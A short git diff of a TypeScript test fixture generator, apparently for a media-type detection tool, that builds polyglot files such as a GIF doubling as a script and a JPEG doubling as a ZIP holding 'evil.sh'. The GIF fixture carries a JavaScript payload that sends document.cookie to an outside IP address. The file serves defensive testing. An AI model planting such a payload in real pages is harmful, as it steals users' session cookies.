@@ -1,10 +1,10 @@
 import { type MediaType, mediaTypes } from '../../../src/analysis/media-type/media-type.js';
-import { packed } from './repack.js';
+import { zip } from './zip.js';
 import { type HostileCase, type Makes, WORD } from './hostile-case.js';
 
 /** Files that are two things at once. */
 export const polyglots: Makes = function* (bases) {
-  const archive = packed({ 'evil.sh': Buffer.from('#!/bin/sh\nid\n') });
+  const archive = zip({ 'evil.sh': Buffer.from('#!/bin/sh\nid\n') });
   const script = Buffer.from('*/=1;fetch("http://203.0.113.7/"+document.cookie)//');
   yield both('image/gif', 'and a script', bases['image/gif'], script);
   yield both('image/jpeg', 'and a ZIP', bases['image/jpeg'], archive);
